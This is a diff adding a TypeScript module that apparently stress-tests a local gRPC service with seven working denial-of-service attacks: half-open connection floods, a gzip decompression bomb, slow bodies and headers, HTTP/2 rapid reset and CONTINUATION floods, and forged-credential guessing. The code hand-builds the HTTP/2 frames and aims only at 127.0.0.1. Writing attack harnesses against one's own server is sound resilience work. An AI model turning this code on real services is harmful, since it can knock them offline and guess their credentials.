@@ -1,0 +1,209 @@
+import { randomBytes } from "node:crypto";
+import http2 from "node:http2";
+import { connect, type Socket } from "node:net";
+import { setTimeout as wait } from "node:timers/promises";
+import { gzipSync } from "node:zlib";
+
+/** Whom an attack asks, from which address, until when, and with which credential where it has one. */
+export type DoorTarget = {
+  readonly port: number;
+  readonly address: string;
+  readonly credential: string;
+  isOver(): boolean;
+  /** Counts what was sent and what came back, for a look at the end. */
+  count(what: string, times?: number): void;
+};
+
+const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, continuation: 9 } as const;
+const PATH = "/activity.ingest.v1.DonationService/CreateDonation";
+const BOMB_BYTES = 128 * 1024 * 1024;
+const END_OF_STREAM_AND_HEADERS = 5;
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** Of a call, none of its fields shortened. */
+const HEADER_BLOCK = Buffer.concat(
+  Object.entries({ ":scheme": "http", ":authority": "core", ...headersOf({}) }).map(literalField),
+);
+const bearer = (text: string) => ({ authorization: `Bearer ${text}` });
+
+/** What somebody at the core's port may do to be in everybody's way; each ends by itself. */
+export const DOOR_ATTACKS = {
+  "10,000 half-open connections": (target) =>
+    inParallel(10_000, async (index) => {
+      await wait(index / 8);
+      const socket = await open(target);
+      // Some say nothing, some half a word, some that they speak HTTP/2.
+      socket.write([Buffer.alloc(0), PREFACE.subarray(0, 9), greeting()][index % 3] ?? "");
+      target.count("sent");
+      while (!target.isOver()) await wait(200);
+      socket.destroy();
+    }),
+
+  "130 KB that inflate to 128 MB, without a credential": (target) => inflate(target, {}),
+  "130 KB that inflate to 128 MB, with a credential": (target) =>
+    inflate(target, bearer(target.credential)),
+
+  "bodies that come slowly, without a credential": (target) =>
+    inParallel(20, async () => {
+      const session = await openSession(target);
+      await inParallel(20, async () => {
+        const stream = session.request(headersOf({}));
+        stream.on("error", () => target.count("errors"));
+        target.count("sent");
+        while (!target.isOver() && !stream.destroyed) {
+          stream.write(Buffer.alloc(1000));
+          await wait(50);
+        }
+      });
+      session.destroy();
+    }),
+
+  "rapid resets": (target) =>
+    inParallel(10, async () => {
+      while (!target.isOver()) {
+        const socket = await open(target);
+        socket.resume();
+        socket.write(greeting());
+        for (let stream = 1; !target.isOver() && socket.writable; ) {
+          const frames: Buffer[] = [];
+          for (; frames.length < 100; stream += 2) {
+            frames.push(frame(FRAME.headers, END_OF_STREAM_AND_HEADERS, stream, HEADER_BLOCK));
+            frames.push(frame(FRAME.reset, 0, stream, CANCEL));
+            target.count("sent");
+          }
+          socket.write(Buffer.concat(frames));
+          await wait(20);
+        }
+        socket.destroy();
+        target.count("cut");
+        await wait(100);
+      }
+    }),
+
+  "CONTINUATION frames without end": (target) =>
+    inParallel(20, async () => {
+      while (!target.isOver()) {
+        const socket = await open(target);
+        socket.resume();
+        socket.write(Buffer.concat([greeting(), frame(FRAME.headers, 0, 1, randomBytes(1000))]));
+        while (!target.isOver() && socket.writable) {
+          socket.write(frame(FRAME.continuation, 0, 1, randomBytes(16_000)));
+          target.count("sent");
+          await wait(10);
+        }
+        socket.destroy();
+        target.count("cut");
+        await wait(100);
+      }
+    }),
+
+  "heads that come slowly": (target) =>
+    inParallel(2_000, async (index) => {
+      await wait(index / 2);
+      const socket = await open(target);
+      target.count("sent");
+      for (const letter of `POST ${PATH} HTTP/1.1\r\nHost: x\r\n${"x: y\r\n".repeat(1000)}`) {
+        if (target.isOver() || !socket.writable) break;
+        socket.write(letter);
+        await wait(300);
+      }
+      socket.destroy();
+    }),
+
+  "made-up credentials": (target) =>
+    inParallel(10, async () => {
+      const session = await openSession(target);
+      await inParallel(10, async () => {
+        while (!target.isOver() && !session.destroyed) {
+          target.count("sent");
+          const madeUp = target.credential.replace(/[0-9a-f]{8}$/, randomBytes(4).toString("hex"));
+          target.count(`status ${await statusOf(session, bearer(madeUp))}`);
+          await wait(20);
+        }
+      });
+      session.destroy();
+    }),
+} satisfies Record<string, (target: DoorTarget) => Promise<unknown>>;
+export type DoorAttack = keyof typeof DOOR_ATTACKS;
+
+function inflate(target: DoorTarget, headers: Record<string, string>): Promise<unknown> {
+  const bomb = gzipSync(Buffer.alloc(BOMB_BYTES));
+  const envelope = Buffer.alloc(5);
+  envelope.writeUInt8(1, 0);
+  envelope.writeUInt32BE(bomb.length, 1);
+  const body = Buffer.concat([envelope, bomb]);
+  return inParallel(8, async () => {
+    const session = await openSession(target);
+    while (!target.isOver() && !session.destroyed) {
+      target.count("sent");
+      const status = await statusOf(session, { ...headers, "grpc-encoding": "gzip" }, body);
+      target.count(`status ${status}`);
+      await wait(20);
+    }
+    session.destroy();
+  });
+}
+
+function headersOf(headers: Record<string, string>) {
+  const call = { ":method": "POST", ":path": PATH, "content-type": "application/grpc+proto" };
+  return { ...call, te: "trailers", ...headers };
+}
+
+/** Makes a call, and returns its gRPC status, or that there was none. */
+function statusOf(
+  session: http2.ClientHttp2Session,
+  headers: Record<string, string>,
+  body: Buffer = Buffer.alloc(5),
+): Promise<string> {
+  return new Promise((resolve) => {
+    const stream = session.request(headersOf(headers));
+    const told = (trailers: http2.IncomingHttpHeaders) => {
+      if (trailers["grpc-status"] !== undefined) resolve(`${trailers["grpc-status"]}`);
+    };
+    stream
+      .on("response", told)
+      .on("trailers", told)
+      .on("error", () => {});
+    stream.on("close", () => resolve("none"));
+    stream.resume();
+    stream.end(body);
+  });
+}
+
+async function openSession(target: DoorTarget): Promise<http2.ClientHttp2Session> {
+  const socket = await open(target);
+  const session = http2.connect("http://core", { createConnection: () => socket });
+  return session.on("error", () => target.count("errors"));
+}
+
+function greeting(): Buffer {
+  return Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]);
+}
+
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** A header field as HPACK has it without its tables and codes. */
+function literalField([name, value]: [string, string]): Buffer {
+  const texts = [name, value].map((text) => [Buffer.of(text.length), Buffer.from(text)]);
+  return Buffer.concat([Buffer.of(0), ...texts.flat()]);
+}
+
+function inParallel(count: number, work: (index: number) => Promise<void>): Promise<unknown> {
+  return Promise.all(Array.from({ length: count }, (_, index) => work(index)));
+}
+
+async function open({ port, address, count }: DoorTarget): Promise<Socket> {
+  const socket = connect({ port, host: "127.0.0.1", localAddress: address });
+  socket.on("error", () => count("errors"));
+  await new Promise<void>((resolve) =>
+    socket.once("connect", resolve).once("close", () => resolve()),
+  );
+  return socket;
+}
